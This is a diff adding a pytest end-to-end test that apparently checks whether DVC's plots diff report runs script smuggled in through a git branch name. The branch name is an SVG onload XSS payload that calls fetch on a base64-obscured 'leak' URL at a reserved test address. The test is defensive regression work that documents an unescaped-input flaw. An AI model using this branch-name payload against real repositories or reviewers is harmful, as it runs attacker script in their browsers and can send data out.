@@ -185,6 +185,29 @@ def test_plots_diff_renders_offline(plots_repo: Path, chromium: Path, tmp_path: 
     assert_renders_offline(html, render(html), images=2 * IMAGE_PLOTS)
 
 
+LEAK = "http://203.0.113.9/leak"  # TEST-NET-3: no host answers, none is asked
+
+
+@pytest.mark.e2e
+def test_a_branch_named_as_markup_reaches_nothing_outside_the_report(
+    plots_repo: Path, chromium: Path, tmp_path: Path
+) -> None:
+    """dvc-render puts revision names into the page unescaped, and git allows a branch named
+    `<svg/onload=...>`: a reviewer's `dvc plots diff` of a pushed branch runs its script."""
+    import base64
+
+    repo = tmp_path / "repo"
+    shutil.copytree(plots_repo, repo)
+    name = f"<svg/onload=fetch(atob('{base64.b64encode(LEAK.encode()).decode()}'))>"
+    run(repo, "git", "branch", name, "HEAD~1")
+    out = tmp_path / "diff"
+    run(repo, DVC, "plots", "diff", name, "HEAD", "-o", str(out))
+    assert name in (out / "index.html").read_text(encoding="utf-8")  # as DVC wrote it
+    result = render(out / "index.html")
+    assert not [u for u in result.external_requests if u.startswith(LEAK)], result.summary()
+    assert len(result.vega_plots) == VEGA_PLOTS and all(i.loaded for i in result.images)
+
+
 @pytest.mark.e2e
 def test_default_dvc_template_fails_offline(
     plots_repo: Path, chromium: Path, tmp_path: Path
